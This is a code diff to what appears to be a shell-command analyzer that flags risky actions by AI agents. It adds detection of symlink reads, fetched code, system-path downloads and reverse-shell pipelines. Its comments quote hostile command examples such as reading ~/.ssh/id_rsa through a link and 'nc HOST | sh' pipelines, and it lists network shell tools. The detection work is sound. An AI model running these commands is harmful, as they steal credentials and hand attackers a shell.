@@ -21,9 +21,15 @@ from bastion.understand import paths as pathmod
 from bastion.understand import reach as reachmod
 from bastion.understand import session as sessionmod
 from bastion.understand.effects import Effect
-from bastion.understand.shell import Change, Execution, ShellAnalysis, analyze
+from bastion.understand.programs.base import match_path
+from bastion.understand.shell import (
+    Change,
+    Execution,
+    ShellAnalysis,
+    analyze,
+    credential_store_of,
+)
 from bastion.understand.shell_catalog import PERSISTENCE_PATHS
-from bastion.understand.shell_programs import match_path
 
 # What a tool is comes from its agent's sensor (``ToolSpec``), never from its name here.
 SHELL = ToolSpec(ToolKind.SHELL, command_key="command")
@@ -366,6 +372,14 @@ def _from_shell(facts: ActionFacts, shell: ShellAnalysis, path: Any) -> None:
             if info is not None and info.path not in written:
                 written.add(info.path)
                 facts.writes.append(info)
+    for target in shell.downloads:
+        info = path(target)
+        if info is not None and info.place == pathmod.SYSTEM:
+            # Fetched content put where the system runs or trusts it: whoever serves the URL
+            # chooses code that runs later, the same effect as running it now.
+            facts.executes.append(
+                Execution("installed-download", f"installs downloaded content at {info.path}")
+            )
     facts.suspicious = _suspicious(shell, facts, path)
     if "kill-system-process" in facts.suspicious or any(
         c.kind in ("service-stop", "system-power") for c in facts.destructive
@@ -407,6 +421,61 @@ def _severity(info: pathmod.PathInfo) -> int:
     if info.credential:
         return 2
     return 1 if info.place not in _OWN_PLACES else 0
+
+
+def _through_links(facts: ActionFacts, links: dict[str, str], path: Any) -> None:
+    """Reads through a link this same command made (``ln -s ~/.ssh k && cat k/id_rsa``)
+    reach the link's target, as the kernel follows it: judged there, the worse kept."""
+    for k, info in enumerate(facts.reads):
+        for link, target in links.items():
+            if info.path == link or info.path.startswith(link + "/"):
+                followed = path(target + info.path[len(link) :])
+                if followed is not None and _severity(followed) >= _severity(info):
+                    facts.reads[k] = followed
+                    facts.resolution.append(
+                        f"{info.path} -> {followed.path} (link made in this command)"
+                    )
+                break
+
+
+def _resolved_stores(facts: ActionFacts, home: str) -> None:
+    """Credential stores reached by a path only resolution shows (a link, a ``cd``): the
+    shell's store check reads the command's words; the kernel reads the resolved path."""
+    for info in facts.reads:
+        if not info.credential:
+            continue
+        store = credential_store_of(_home_form(info.path, home))
+        if store and f"file:{store}" not in facts.credential_stores:
+            facts.credential_stores.append(f"file:{store}")
+
+
+def _fetched_code(
+    facts: ActionFacts,
+    shell: ShellAnalysis,
+    programs: list[tuple[str, tuple[str, ...]]],
+    *,
+    cwd: str,
+    moved: list[str],
+    memory: sessionmod.Memory | None,
+) -> None:
+    """Code fetched in the session (``git clone``) and run later, in this command or a later
+    one, is downloaded code: its provenance is the host it came from, not the workspace it
+    now sits in (``git clone https://host/t && bash t/install.sh``)."""
+    fetched = dict(memory.fetched) if memory is not None else {}
+    fetched.update(sessionmod.clones(programs, cwd))
+    if not fetched:
+        return
+    triggers: set[str] = set()
+    for where in [cwd, *moved]:
+        triggers |= sessionmod.run_triggers(programs, where)
+    for what, host in sessionmod.fetched_runs(fetched, triggers, [cwd, *moved])[:4]:
+        facts.executes.append(
+            Execution("downloaded", f"runs {what}, fetched from {host} in this session")
+        )
+        if host not in {d.host for d in facts.destinations}:
+            facts.destinations.append(
+                Destination(host, None, "", "git", False, hostmod.classify_host(host).classes)
+            )
 
 
 def _also_from(path: Any, directories: list[str]) -> Any:
@@ -467,6 +536,12 @@ def _shell_call(
         facts.resolution.append("cd inside the command: " + ", ".join(moved[:3]))
     shell = _analyze(expanded)
     _from_shell(facts, shell, path)
+    programs = [(c.program, c.argv) for c in shell.commands]
+    links = sessionmod.links_made(programs, cwd, home)
+    if links:
+        _through_links(facts, links, path)
+    _resolved_stores(facts, home)
+    _fetched_code(facts, shell, programs, cwd=cwd, moved=moved, memory=memory)
     braced = expand_braces(expanded)
     if braced != expanded:
         # tree-sitter reads "{cat,~/.ssh/id_rsa}" at a statement's start as a group, not
@@ -1058,21 +1133,12 @@ def _remember_shell_writes(
             # running it later is running unknown code.
             entry = sessionmod.Written(info.path, sessionmod.triggers_for(info.path), None, via)
         sessionmod.note_written(memory, entry)
-    for cmd in shell.commands:
-        if cmd.program == "ln":
-            # Symbolic or hard, a link is another name for the target from now on.
-            positionals = [a for a in cmd.argv[1:] if not a.startswith("-")]
-            symbolic = any(
-                a == "--symbolic" or (a.startswith("-") and not a.startswith("--") and "s" in a)
-                for a in cmd.argv[1:]
-            )
-            if len(positionals) == 2:
-                link = sessionmod._abs(positionals[1], cwd)
-                # A symbolic link's relative target is relative to the link's directory.
-                base = posixpath.dirname(link) if symbolic else cwd
-                target = pathmod.resolve(positionals[0], base, home)
-                if len(memory.symlinks) < 64:
-                    memory.symlinks[link] = target
+    programs = [(c.program, c.argv) for c in shell.commands]
+    for link, target in sessionmod.links_made(programs, cwd, home).items():
+        # Symbolic or hard, a link is another name for the target from now on.
+        if link in memory.symlinks or len(memory.symlinks) < 64:
+            memory.symlinks[link] = target
+    sessionmod.note_fetched(memory, sessionmod.clones(programs, cwd))
 
 
 @lru_cache(maxsize=4096)
@@ -1110,6 +1176,17 @@ def _suspicious(shell: ShellAnalysis, facts: ActionFacts, path: Any) -> list[str
             for a in c.argv[1:]
         ):
             out.append("reverse-shell")
+    # A network client and a shell reading its commands from a pipe in one pipeline
+    # (nc HOST | sh, cat fifo | sh -i | nc HOST > fifo): the peer types into the shell.
+    clients = [
+        c
+        for c in shell.commands
+        if c.program in _NET_CLIENTS and (c.program != "openssl" or "s_client" in c.argv)
+    ]
+    for index in {c.pipeline for c in clients}:
+        members = [c for c in shell.commands if c.pipeline == index]
+        if len(members) > 1 and any(_reads_commands_from_stdin(c) for c in members):
+            out.append("reverse-shell")
     for e in shell.executes:
         # A network socket wired to a process: whoever is at the other end gets a shell.
         if e.kind == "remote-shell":
@@ -1145,6 +1222,22 @@ def _suspicious(shell: ShellAnalysis, facts: ActionFacts, path: Any) -> list[str
             if info is not None and info.place == pathmod.SYSTEM:
                 out.append("system-file-delete")
     return sorted(set(out))
+
+
+_NET_CLIENTS = frozenset({"nc", "ncat", "netcat", "socat", "telnet", "cryptcat", "openssl"})
+_STDIN_INTERPRETERS = frozenset(
+    {"sh", "bash", "zsh", "dash", "ksh", "ash", "busybox", "python", "python3", "perl", "ruby"}
+)
+
+
+def _reads_commands_from_stdin(cmd: Any) -> bool:
+    """A shell or interpreter given no script or -c code: it runs what its stdin says."""
+    if cmd.program not in _STDIN_INTERPRETERS:
+        return False
+    args = [a for a in cmd.argv[1:] if a not in ("-i", "-s", "-", "-l", "--login")]
+    if cmd.program == "busybox":
+        return bool(args) and args[0] in {"sh", "ash"} and len(args) == 1
+    return not args
 
 
 def strings_in(value: Any, limit: int = 200) -> list[str]:
